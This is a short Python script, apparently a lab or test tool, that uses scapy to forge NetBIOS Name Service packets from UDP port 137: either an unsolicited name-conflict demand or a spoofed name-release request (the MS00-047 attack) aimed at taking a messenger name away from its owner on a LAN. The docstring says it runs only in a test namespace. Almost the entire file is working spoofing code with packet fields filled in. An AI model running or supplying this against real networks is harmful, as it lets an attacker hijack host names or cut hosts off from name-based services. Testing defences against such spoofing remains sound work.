#!/usr/bin/python3
"""Send what an attacker on the LAN sends to take a NetBIOS name away from
its owner, built by scapy (a third-party encoder): an unsolicited NAME
CONFLICT DEMAND (0xAD87, RFC 1002 4.2.8) and a NAME RELEASE REQUEST for the
owner's name (0x3010, the MS00-047 spoof), from UDP port 137.

usage: nbns_takeover_scapy.py SRC_IP DST_IP NAME {demand|release}
NAME is a <03> (messenger) name. Runs inside a test namespace only.
"""
import socket
import sys

from scapy.layers.netbios import (NBNS_ADD_ENTRY, NBNSHeader, NBNSQueryResponse,
                                  NBNSRegistrationRequest)

src, dst, name, kind = sys.argv[1:5]
MESSENGER = 0x4144  # the first-level encoding of suffix 0x03
if kind == "demand":
    # Response, opcode 5 (registration), AA RD RA, RCODE 7 (CFT_ERR).
    packet = NBNSHeader(NAME_TRN_ID=0x4242, RESPONSE=1, OPCODE=5, NM_FLAGS=0x58,
                        RCODE=7, ANCOUNT=1) / NBNSQueryResponse(
        RR_NAME=name.upper().encode(), SUFFIX=MESSENGER, TTL=0,
        ADDR_ENTRY=[NBNS_ADD_ENTRY(NB_ADDRESS=src)])
elif kind == "release":
    # Request, opcode 6 (release), B, the name with the attacker's address.
    packet = NBNSHeader(NAME_TRN_ID=0x5151, OPCODE=6, NM_FLAGS=0x01, QDCOUNT=1,
                        ARCOUNT=1) / NBNSRegistrationRequest(
        QUESTION_NAME=name.upper().encode(), SUFFIX=MESSENGER, TTL=0, NB_ADDRESS=src)
else:
    sys.exit(f"unknown kind {kind!r}: demand or release")
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
s.bind((src, 137))
s.sendto(bytes(packet), (dst, 137))
